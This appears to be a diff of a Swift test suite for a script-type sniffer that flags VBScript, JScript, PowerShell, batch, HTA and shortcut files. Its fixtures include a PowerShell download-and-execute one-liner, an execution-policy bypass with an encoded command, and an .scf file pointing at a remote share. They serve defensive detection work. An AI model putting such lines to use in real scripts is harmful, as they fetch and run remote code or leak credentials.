@@ -5,9 +5,12 @@ import Testing
 @testable import Inspection
 
 @Suite struct ScriptSnifferTests {
-    private func sniff(_ text: String, isMarkup: Bool = false) -> String? {
-        let octets = Array(text.utf8)
-        return ScriptSniffer.type(of: octets.span, isMarkup: isMarkup)
+    private func sniff(_ text: String, isPage: Bool = false) -> String? {
+        sniff(Array(text.utf8), isPage: isPage)
+    }
+
+    private func sniff(_ octets: [UInt8], isPage: Bool = false) -> String? {
+        ScriptSniffer.type(of: FoldedText(octets.span), isPage: isPage)
     }
 
     @Test(arguments: [
@@ -17,7 +20,6 @@ import Testing
         ("Sub Main\r\nMsgBox \"hi\" & Chr(13)\r\nEnd Sub\r\n", "text/vbscript"),
         ("var x = new ActiveXObject(\"Scripting.FileSystemObject\");\n", "text/javascript"),
         ("eval(unescape('%61'));\n", "text/javascript"),
-        ("var a = function(){ return 1 };\n", "text/javascript"),
         ("var s = String.fromCharCode(97, 98);\n", "text/javascript"),
         ("Invoke-Expression (New-Object Net.WebClient).DownloadString('http://example.org/x')\n", "application/x-powershell"),
         ("#Requires -Version 5\nGet-Process\n", "application/x-powershell"),
@@ -29,6 +31,17 @@ import Testing
         ("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n", "text/x-ms-regedit"),
         ("REGEDIT4\r\n", "text/x-ms-regedit"),
         ("\r\n\r\n  @echo off\r\n", "text/x-msdos-batch"),
+        ("rem hi\r\n@echo off\r\nsetlocal\r\ncmd /c del x\r\n", "text/x-msdos-batch"),
+        (":: x\r\n@echo off\r\n", "text/x-msdos-batch"), (":: x\n\n:: y\nrem\n@rem z\n@ECHO OFF\n", "text/x-msdos-batch"),
+        ("[DEFAULT]\r\nBASEURL=x\r\n[InternetShortcut]\r\nURL=http://example.org/\r\n", "application/x-mswinurl"),
+        ("; x\r\n[InternetShortcut]\r\n", "application/x-mswinurl"),
+        ("[Desktop Entry]\nType=Link\n", "application/x-desktop"), ("# x\n[Desktop Entry]\nExec=x\n", "application/x-desktop"),
+        ("[Shell]\r\nCommand=2\r\nIconFile=\\\\example.org\\x.ico\r\n", "text/x-ms-scf"),
+        ("#@~^IAAAAA==\u{7F}abc^#~@", "text/vbscript"), ("' x\r\n#@~^IAAAAA==", "text/vbscript"),
+        ("CreateObject(\"WScript.Shell\").Run \"x\"\r\n", "text/vbscript"),
+        ("a=1:Set s = CreateObject (\"Scripting.FileSystemObject\")\r\n", "text/vbscript"),
+        ("/* \u{1}\u{0} */\nvar x = new\tActiveXObject (\"a\");\n", "text/javascript"),
+        ("$a = 1; Invoke-Expression $a\n", "application/x-powershell"), ("'x' | Invoke-Expression\n", "application/x-powershell"),
     ])
     func kinds(text: String, wanted: String) {
         #expect(sniff(text) == wanted, "\(text)")
@@ -39,18 +52,24 @@ import Testing
         ("<job id=\"a\"><script language=\"VBScript\">", "text/x-windows-script"),
         ("<package><job>", "text/x-windows-script"), ("<job>\n<script language=\"JScript\">", "text/x-windows-script"),
         ("<?XML version=\"1.0\"?>\n<scriptlet>", "text/x-windows-script"),
+        ("<job id=\"a\"><runtime/><script>", "text/x-windows-script"),
+        ("<?xml version=\"1.0\"?>\n<libraryDescription xmlns=\"x\">", "application/x-ms-library"),
+        ("<!-- x --><persistedQuery version=\"1.0\">", "application/x-ms-search"),
+        ("<searchConnectorDescription>", "application/x-ms-search"), ("\u{FEFF}<html><hta:application>", "application/hta"),
     ])
     func markup(text: String, wanted: String) {
-        #expect(sniff(text, isMarkup: true) == wanted, "\(text)")
+        #expect(sniff(text) == wanted, "\(text)")
     }
 
     /// Pages hold scripts of their own.
     @Test(arguments: [
         "<html><script>var x = function(){}; eval(unescape('y'))</script></html>", "<html>on error resume next</html>",
-        "<html><script language=\"JScript\">x()</script></html>",
+        "<html><script language=\"JScript\">x()</script></html>", "<jobs><job id=\"1\"/></jobs>", "<job id=\"1\"><step/></job>",
+        "<package><metadata/></package>", "\u{FEFF}<!DOCTYPE html><script>new ActiveXObject('x')</script>",
+        "<!-- long --><title>x</title><script>new ActiveXObject('x')</script>",
     ])
     func pagesAreNoScripts(text: String) {
-        #expect(sniff(text, isMarkup: true) == nil)
+        #expect(sniff(text) == nil)
     }
 
     @Test(arguments: [
@@ -62,16 +81,65 @@ import Testing
         #expect(sniff(text) == nil)
     }
 
-    /// Signs count in the first kilobytes only: beyond, a long text would be read for each look.
-    @Test func onlyTheBeginningCounts() {
-        let padding = String(repeating: "word ", count: 1000)
-        #expect(sniff(padding + "on error resume next") == nil)
-        #expect(sniff(String(repeating: "word ", count: 500) + "on error resume next") == "text/vbscript")
+    /// Logs, listings and sources of other languages have single words of scripts, and many of them.
+    @Test(arguments: [
+        "at Statement.execute(Statement.java:1)\nset to null\nat x.eval(X.java)\n",
+        "SET DEFINE OFF;\nSET x = 1;\nINSERT INTO t VALUES ('a' || CHR(10));\n", "set x,chr(3)\nset y,chr(4)\n",
+        "a;=CHAR(10);b\r\nset;dim ;chr(\r\n", "plot <- function (y) {\n  eval(x)\n}\nvar <- function(x) x\n",
+        "Notes: use function (y), and eval(x).\nvar x\n", "setlocal ts=2\nif exists('x')\n", "end function\nend subroutine\n",
+        "Use Invoke-Expression never.\n", "powershell.exe -ExecutionPolicy Bypass -EncodedCommand x\n",
+        "exit code is in %errorlevel%\n", "all:\n\t@echo only\n", "\"CreateObject(\" is a word\n", "[Shell]\nname=x\n",
+        "We wrote [InternetShortcut] there.", "wscript.exe started\n",
+    ])
+    func logsAndListingsAreNoScripts(text: String) {
+        #expect(sniff(text) == nil, "\(text)")
+    }
+
+    /// A page saved as a message, with the scripts of the page.
+    @Test func savedPagesAreNoScripts() {
+        let page = "<html><script>var a = String.fromCharCode(1); new ActiveXObject('x')</script></html>"
+        let header = "From: <Saved by a browser>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n"
+        #expect(sniff(header + page) == nil)
+        #expect(sniff("From: x\r\n\r\nMIME-Version: 1.0\r\nnew ActiveXObject('x')") == "text/javascript")
+    }
+
+    /// libmagic saw HTML in it, further down.
+    @Test func pagesThatBeginWithText() {
+        let page = "Hello <html><script>new ActiveXObject('x')</script></html>"
+        #expect(sniff(page, isPage: true) == nil)
+        #expect(sniff(page) == "text/javascript")
+        #expect(sniff("' <html>\r\nOn Error Resume Next\r\n", isPage: true) == "text/vbscript")
+        #expect(sniff("Hello <html><hta:application><script>", isPage: true) == "application/hta")
+    }
+
+    @Test func wideScripts() {
+        let table: [(String, String)] = [
+            ("Set x = CreateObject(\"Scripting.FileSystemObject\")\r\n", "text/vbscript"),
+            ("var x = new ActiveXObject(\"y\");\r\n", "text/javascript"),
+            ("Invoke-Expression $größe\r\n", "application/x-powershell"), ("<html><hta:application>", "application/hta"),
+        ]
+        for (text, wanted) in table {
+            for isBigEndian in [false, true] {
+                for hasMark in [false, true] {
+                    #expect(sniff(Heads.wide(text, isBigEndian: isBigEndian, hasMark: hasMark)) == wanted, "\(text)")
+                }
+            }
+        }
+    }
+
+    /// A comment in front hides nothing, as long as the head is.
+    @Test func theWholeHeadCounts() {
+        let comment = "' " + String(repeating: "word ", count: 7000) + "\r\n"
+        #expect(sniff(comment + "on error resume next\r\n") == "text/vbscript")
+        let lines = String(repeating: "rem x\r\n", count: 4000)
+        #expect(sniff(lines + "@echo off\r\n") == "text/x-msdos-batch")
     }
 
     @Test func hostileTextIsNotSlow() {
-        let texts = ["w", "<", "var ", "e", "echo ", "wscript", "\""].map { String(repeating: $0, count: 40_000) }
+        let texts = ["w", "<", "var ", "e", "echo ", "wscript", "\"", "rem\n", ":\n", "a:\n", "<!--", "\u{0}"].map {
+            String(repeating: $0, count: 40_000)
+        }
         let elapsed = ContinuousClock().measure { for text in texts { _ = sniff(text) } }
-        #expect(elapsed < .seconds(5))
+        #expect(elapsed < .seconds(20))
     }
 }
